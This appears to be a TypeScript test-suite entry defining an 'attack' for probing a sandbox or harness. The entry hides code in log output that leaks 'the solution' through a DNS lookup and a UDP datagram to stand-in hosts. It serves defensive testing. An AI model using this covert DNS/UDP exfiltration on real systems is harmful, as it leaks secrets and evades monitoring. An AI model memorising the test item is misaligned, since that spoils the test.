/** A name that is looked up is a message to whoever answers for it. */
import type {Attack} from '../attack';
import {REACHED, ON_LOG, builtin, hiddenInLog} from '../pieces';

export const attack: Attack = {
  tries: 'looks up a name, and sends a datagram',
  gains: 'a message out in the name that is looked up',
  ...ON_LOG,
  ...hiddenInLog({top: `${REACHED}
${builtin('dns')}.lookup('the-solution.example.org', () => undefined);
${builtin('dgram')}.createSocket('udp4').on('error', () => undefined)
  .send('the solution', 53, '198.51.100.7', () => undefined);`}),
  says: /lastIndex is 0|returned 0|answered/,
  armed: {leaves: 'a mark'},
};
